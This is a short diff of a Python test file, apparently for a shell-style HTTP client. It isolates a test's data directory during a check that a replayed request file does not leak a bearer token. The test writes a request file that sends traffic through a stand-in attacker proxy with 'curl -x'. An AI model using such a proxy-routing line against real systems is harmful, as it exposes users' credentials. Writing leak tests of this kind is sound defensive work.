@@ -109,7 +109,10 @@ def test_again_does_not_forget_that_a_file_said_the_way(shell, api, evil) -> Non
     assert TOKEN.encode() in evil.seen
 
 
-def test_a_saved_request_does_not_take_the_way_of_a_file_along(shell, api, evil) -> None:
+def test_a_saved_request_does_not_take_the_way_of_a_file_along(
+    shell, api, evil, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
     Path("evil.http").write_text(f"curl -x {evil.url} {api.url}/echo")
     shell.say("replay evil.http", f"set auth bearer {TOKEN}")
 
